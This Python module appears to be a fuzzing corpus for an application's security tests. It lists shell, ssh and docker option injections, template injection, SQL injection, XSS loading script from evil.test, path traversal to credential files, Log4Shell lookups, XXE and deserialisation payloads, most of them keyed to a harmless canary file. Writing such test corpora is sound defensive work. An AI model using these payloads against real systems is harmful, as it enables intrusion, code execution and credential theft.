"""The texts of the hostile corpus. ``{canary}`` stands for a file that must never appear."""

from __future__ import annotations

from typing import Final

_TOUCH: Final = "touch {canary}"

# Each is meant to run _TOUCH where text is put together into a command.
SHELL: Final = (
    "; touch {canary}", "; touch {canary} #", "x; touch {canary}; x", "&& touch {canary}",
    "x && touch {canary}", "& touch {canary} &", "| touch {canary}", "x | touch {canary}",
    "|| touch {canary}", "$(touch {canary})", "x$(touch {canary})y", "`touch {canary}`",
    "x`touch {canary}`y", "$(`touch {canary}`)", "${x:-$(touch {canary})}",
    "$((x[$(touch {canary})]))", "<(touch {canary})", ">(touch {canary})", "> {canary}",
    ">> {canary}", "x > {canary}", ">{canary}", "x >{canary} 2>&1", "; > {canary}",
    "{ touch {canary}; }", "(touch {canary})", "! touch {canary}", "; exec touch {canary}",
    "; sh -c 'touch {canary}'", "; eval touch {canary}", ";touch${IFS}{canary}",
    "$(touch${IFS}{canary})", ";touch$IFS{canary}", ";touch\t{canary}", "`touch${IFS}{canary}`",
    "|touch${IFS}{canary}", ";{touch,{canary}}", "$IFS;touch$IFS{canary};", "\ntouch {canary}\n",
    "x\ntouch {canary}", "x\r\ntouch {canary}\r\n", "\rtouch {canary}\r", "x\n; touch {canary}",
    "x\\\ntouch {canary}", "';touch {canary};'", "'; touch {canary} #", "' && touch {canary} && '",
    "'\ntouch {canary}\n'", "\"; touch {canary}; \"", "\"; touch {canary} #",
    "\"$(touch {canary})\"", "\"`touch {canary}`\"", "'$(touch {canary})'",
    "\" && touch {canary} && \"", "'\"; touch {canary} #", "\\'; touch {canary} #",
    "\\\"; touch {canary} #", "\\; touch {canary}", "$'\\x3b'touch {canary}",
    "$'\\n'touch {canary}", "x.service; touch {canary}", "x.service$(touch {canary})",
    "x.service\ntouch {canary}", "$(touch {canary}).service",
    "/var/run/docker.sock; touch {canary}", "/var/run/$(touch {canary})",
    "127.0.0.1; touch {canary}", "127.0.0.1$(touch {canary})", "root@127.0.0.1 touch {canary}",
    "SIGTERM; touch {canary}", "*; touch {canary}", "~; touch {canary}", "x' -e 'touch {canary}' '",
    "; touch {canary} & disown", "x;:>{canary}",
)  # fmt: skip

OPTIONS: Final = (
    "-", "--", "---", "-h", "--help", "--version", "-v", "-V", "-rf", "-rf /", "-n", "-c", "-e",
    "-oProxyCommand=touch {canary}", "-oProxyCommand=touch${IFS}{canary}",
    "-o ProxyCommand=touch {canary}", "-oLocalCommand=touch {canary}", "-oPermitLocalCommand=yes",
    "-oStrictHostKeyChecking=no", "-F/dev/null", "-i/etc/passwd", "-E{canary}", "-W127.0.0.1:1",
    "-L1:127.0.0.1:1", "-D1080", "-S none", "-l root", "--exec=touch {canary}",
    "--upload-pack=touch {canary}", "--output={canary}", "-o{canary}",
    "--host=tcp://192.0.2.9:2375", "-H tcp://192.0.2.9:2375", "--privileged", "--pid=host",
    "-v/:/host", "--volume=/:/host", "--entrypoint=sh", "--config={canary}", "--no-pager",
    "--root=/", "--force", "-f", "--all", "--tail=all", "--since=0", "--signal=KILL", "-9",
    "-u root sh -c 'touch {canary}'",
)  # fmt: skip

TEMPLATES: Final = (
    "{{7*7}}", "{{ 7*7 }}", "{{7*'7'}}", "{% debug %}", "{% load log %}",
    "{% include '/etc/passwd' %}", "{% csrf_token %}", "{{ request.user }}",
    "{{ settings.SECRET_KEY }}", "{{request.META}}", "{% extends 'admin/base.html' %}",
    "{{''.__class__.__mro__}}", "{#", "{% verbatim %}", "{{", "{%",
    "{{cycler.__init__.__globals__.os.popen('touch {canary}')}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${7*7}", "#{7*7}",
    "${{7*7}}", "@(7*7)", "<%= 7*7 %>", "<%= system('touch {canary}') %>", "#{`touch {canary}`}",
    "${T(java.lang.Runtime).getRuntime().exec('touch {canary}')}", "*{7*7}", "[[7*7]]",
    "{php}system('touch {canary}');{/php}", "<?php system('touch {canary}'); ?>", "{0.__class__}",
    "{settings.SECRET_KEY}", "%(password)s", "${env:HOME}", "{$eval('1')}",
    "__import__('os').system('touch {canary}')", "eval(compile('1','x','eval'))",
)  # fmt: skip

SQL: Final = (
    "'", "''", "' OR '1'='1", "' OR 1=1--", "' OR 1=1#", "\" OR \"\"=\"", "1 OR 1=1",
    "1' OR '1'='1' --", "'; DROP TABLE sites_host;--", "'); DROP TABLE sites_host;--",
    "1; DELETE FROM auth_user", "' UNION SELECT NULL--",
    "' UNION SELECT username,password FROM auth_user--", "1 AND SLEEP(5)", "'||pg_sleep(5)||'",
    "'; COPY (SELECT 1) TO '{canary}';--", "'; ATTACH DATABASE '{canary}' AS x;--",
    "x' AND randomblob(1000000000)--", "%", "_", "%%", "\\%", "admin'--", "admin' #", "admin'/*",
    "/**/OR/**/1=1", "0x27", "CHAR(39)", "name__startswith", "host__credential__secret",
    "-host__credential__secret", "password", "pk__in", "RANDOM()",
)  # fmt: skip

HEADERS: Final = (
    "x\r\nSet-Cookie: sessionid=1", "x\r\n\r\n<script>window.hacked=1</script>",
    "x\nLocation: //evil.test", "x\rX-Injected: 1", "\r\n", "\n\n", "x%0d%0aSet-Cookie:%20a=b",
    "%0d%0a%0d%0a", "x\u560d\u560aSet-Cookie: a", "127.0.0.1, 10.0.0.1",
    "for=127.0.0.1;proto=https", "unknown", "::1", "[::1]:443", "localhost, evil.test",
    "Basic YWRtaW46YWRtaW4=", "Bearer x", "bytes=0-,0-,0-",
)  # fmt: skip

MARKUP: Final = (
    "<script>window.hacked=1</script>", "\"><script>window.hacked=1</script>",
    "'><script>window.hacked=1</script>", "</script><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>", "</textarea><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>", "<ScRiPt>window.hacked=1</sCrIpT>",
    "<script src=//evil.test/x.js></script>", "<script\x0c>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>", "\"><img src=x onerror=window.hacked=1>",
    "<img src=x onerror=\"window.hacked=1\">", "\" onmouseover=\"window.hacked=1",
    "' onfocus='window.hacked=1' autofocus='", "\" autofocus onfocus=window.hacked=1 x=\"",
    "x onclick=window.hacked=1", "<svg onload=window.hacked=1>", "<svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>", "<svg><animate onbegin=window.hacked=1>",
    "<svg><a xlink:href=\"javascript:window.hacked=1\"><text y=9>x</text></a></svg>",
    "javascript:window.hacked=1", "JaVaScRiPt:window.hacked=1", "java\tscript:window.hacked=1",
    "javascript://%0awindow.hacked=1", "data:text/html,<script>window.hacked=1</script>",
    "vbscript:msgbox(1)", "<a href=\"javascript:window.hacked=1\">x</a>",
    "<iframe src=javascript:window.hacked=1>",
    "<iframe srcdoc=\"<script>parent.hacked=1</script>\">",
    "<object data=javascript:window.hacked=1>", "<embed src=javascript:window.hacked=1>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<style>*{display:none}</style>",
    "<style>@import'//evil.test/x.css'</style>", "style=\"background:url(//evil.test)\"",
    "expression(window.hacked=1)", "<form action=//evil.test><input name=x>",
    "<input autofocus onfocus=window.hacked=1>", "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1>", "<body onload=window.hacked=1>",
    "<marquee onstart=window.hacked=1>", "<x contenteditable onblur=window.hacked=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">",
    "<math><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.hacked=1&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=window.hacked=1>\">",
    "<!--><img src=x onerror=window.hacked=1>-->", "<![CDATA[<script>window.hacked=1</script>]]>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;", "&#60;script&#62;window.hacked=1", "&amp;", "&",
    "<", ">", "\"", "`", "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "\\x3cscript\\x3e", "-->", "]]>", "*/window.hacked=1/*", "';window.hacked=1;//",
    "\";window.hacked=1;//", "${window.hacked=1}", "`;window.hacked=1;`", "</script",
    "<img/src=`x`onerror=window.hacked=1>", "<a hx-on:click=window.hacked=1 hx-trigger=load>x</a>",
    "<div hx-get=/admin/logout/ hx-trigger=load></div>", "<x x-init=window.hacked=1>", "__proto__",
    "constructor", "constructor.prototype.hacked=1",
)  # fmt: skip

TERMINAL: Final = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;dG91Y2g=\x07",
    "\x1b]8;;http://evil.test\x07x\x1b]8;;\x07", "\x1b[6n", "\x1b[c", "\x1bP+q544e\x1b\\",
    "\x1b[?1049h", "\x1b[1A\x1b[2Kforged", "\x9b31mred", "\x1b]50;x\x07", "\x1b_x\x1b\\", "\x1bc",
    "\x07\x07", "\x08\x08\x08forged", "\x7f", "\x0e\x0f", "x\x1b", "\x1b[999999999C",
)  # fmt: skip

CONTROLS: Final = (
    "\x00", "x\x00y", "\x00; touch {canary}", "x.service\x00", "\x01", "\x02\x03\x04", "\x0b",
    "\x0c", "\x1c\x1d\x1e\x1f", "\x1a", "\x85", "\u2028", "\u2029", "x\u2028y", "\ufeff", "\ufffe",
    "\uffff", "\r", "\n", "\t", " ", "  ", "\u00a0", "x ", " x", "x\n", "\nx", "",
)  # fmt: skip

PATHS: Final = (
    "..", ".", "../", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd",
    "/etc/shadow", "/proc/self/environ", "/proc/self/mem", "/proc/1/root", "/dev/zero",
    "/dev/stdin", "/dev/tcp/192.0.2.9/1", "file:///etc/passwd", "//evil.test/share",
    "\\\\evil.test\\share", "C:\\Windows", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f", "..%252f", "..%c0%af", "/var/run/../../etc/passwd", "/var/run/docker.sock\x00.txt",
    "~root/.ssh/id_rsa", "~", "/a/" + "b/" * 100, "./-rf", "x/../y",
    "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_",
    "unix:///var/run/docker.sock", "CON", "NUL", "aux.txt", "*", "?", "[a-z]*", "**/*",
)  # fmt: skip

UNICODE: Final = (
    "\u202egnp.exe", "x\u202dy", "\u2066x\u2069", "\u200bx\u200b", "ad\u200dmin", "\u200e\u200f",
    "аdmin", "ａｄｍｉｎ", "ⓐⓓⓜⓘⓝ", "admın", "ADMİN", "ß", "ﬃ", "Å",
    "A\u030a", "\u212b", "e\u0301", "é",
    "\u0301", "Z" + "\u0301" * 60, "\ud800", "\udfff", "x\ud800y", "\udc00\ud800", "\U0001f600",
    "👩\u200d👩\u200d👧\u200d👦", "\U0010ffff", "\U000e0041", "𝕒𝕕𝕞𝕚𝕟",
    "١٢٣", "１２３", "²", "½", "\u0660",
    "\u180e", "\u034f", "\ufffd", "\xc0\xaf", "\xed\xa0\x80", "ǅ", "İ", "ſ", "K", "\u3000",
    "\u2800", "\u115f", "﷽" * 20, "Ω", "\u1e9e", "\u0130stanbul",
)  # fmt: skip

NUMBERS: Final = (
    "-1", "0", "00", "+1", "1.5", "1e3", "1e999", "-1e999", "NaN", "Infinity", "-Infinity", "0x10",
    "0b1", "1_000", "1,000", "2147483647", "2147483648", "-2147483649", "4294967296",
    "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
    "9" * 40, "9" * 4_400, "1" + "0" * 400, "null", "undefined", "None", "true", "false", "[]",
    "{}", "\"\"", "1;2", "1 2", "1--1", "99999999999999999999999999999999999999999999999999-01-01",
    "0000-00-00", "9999-12-31T23:59:60Z", "2026-02-30", "1970-01-01T00:00:00+99:99", "P1D",
    "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "0001-01-01", "9999-12-31",
    "00000000-0000-0000-0000-000000000000",
)  # fmt: skip

FORMATS: Final = (
    "%s%n", "%n%n%n%n", "%x%x%x%x", "%d", "%(x)s", "{0}", "{!r:>99999999}", "%99999999d", "$HOME",
    "$USER", "%USERPROFILE%", "x=y", "x:y", "a,b", "a;b", "a|b", "a\\b", "\\", "\\\\", "\\n", "\\0",
    "\\u0000", "\\ud800",
)  # fmt: skip

OTHERS: Final = (
    "*)(uid=*))(|(uid=*", "admin)(&)", "*)(&", "(|(objectClass=*))", "cn=*", "\\2a",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "<!DOCTYPE x [<!ENTITY a \"a\"><!ENTITY b \"&a;&a;\">]>",
    "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>",
    "ok\n2026-01-01 00:00:00 INFO login of admin succeeded", "x\r\n[CRITICAL] forged",
    "${jndi:ldap://192.0.2.9/x}", "${${lower:j}ndi:ldap://192.0.2.9/x}",
    "!!python/object/apply:os.system ['touch {canary}']", "!!python/name:os.system", "- &a [*a]",
    "a: *b", "x: !ruby/object:Gem::Installer", "key: value\nother: 1", "---\n...",
    "@{[system 'touch {canary}']}", "=cmd|' /C touch {canary}'!A1", "=HYPERLINK(\"//evil.test\")",
    "+1+1", "@SUM(1)", "-2+3", "command=\"touch {canary}\" ssh-ed25519 AAAA",
    "x\nssh-ed25519 AAAA x", "ssh-rsa AAAA\ncommand=\"touch {canary}\"",
    "siteflow\nssh-ed25519 AAAA", "root::0:0::/:/bin/sh", "*/1 * * * * touch {canary}",
    "() { :; }; touch {canary}", "{\"$gt\": \"\"}", "[object Object]", "a[b]=c", "a.b.c", "x" * 64,
    "x" * 256, "x" * 300, "ü" * 1_000, "a.example." * 100, "x " * 5_000, "(" * 3_000, "[" * 3_000,
    "{\"a\":" * 3_000, "(a+)+$" + "a" * 40 + "!", "x" * 70_000,
)  # fmt: skip

LARGE: Final = ("A" * 999_000, "ü" * 400_000, "<" * 300_000, "x" * 1_000_100)

FAMILIES: Final[dict[str, tuple[str, ...]]] = {
    "shell": SHELL, "options": OPTIONS, "templates": TEMPLATES, "sql": SQL, "headers": HEADERS,
    "markup": MARKUP, "terminal": TERMINAL, "controls": CONTROLS, "paths": PATHS,
    "unicode": UNICODE, "numbers": NUMBERS, "formats": FORMATS, "others": OTHERS, "large": LARGE,
}  # fmt: skip

# Of the above, what each reader has to think of by itself: no text, no number, no column and no
# line can be made of it. Whoever gets a small share of the corpus gets these in any case.
TELLING: Final = frozenset({
    "", " ", "\x00", "x\x00y", "\n", "x\r\nSet-Cookie: sessionid=1", "\ud800", "\U0010ffff",
    "\u202egnp.exe", "'", "%", "..", "-1", "0", "1e999", "NaN", "9223372036854775807",
    "9223372036854775808", "9" * 4_400, "null", "[]", "{}", "9999-12-31T23:59:60Z",
    "0001-01-01T00:00:00+23:59", "<script>window.hacked=1</script>", "x" * 300,
    "x" * 70_000, "[" * 3_000,
})  # fmt: skip
